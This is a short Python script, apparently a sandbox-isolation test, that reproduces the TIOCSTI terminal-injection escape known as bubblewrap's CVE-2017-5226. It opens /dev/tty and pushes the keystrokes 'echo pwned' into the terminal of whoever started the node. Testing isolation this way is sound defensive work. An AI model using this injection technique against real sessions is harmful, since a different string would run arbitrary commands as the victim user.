"""Types a command into the terminal of whoever started the node, as a user
would (TIOCSTI; bubblewrap's CVE-2017-5226): a process in the node's
session has that terminal as its controlling terminal, /dev/tty."""

import errno
import fcntl
import os
import termios

try:
    fd = os.open("/dev/tty", os.O_RDONLY)
except OSError as exc:
    print(f"no terminal: {errno.errorcode[exc.errno]}")
    raise SystemExit(0) from None
for ch in b"echo pwned\n":
    fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
print("typed into the node's terminal")
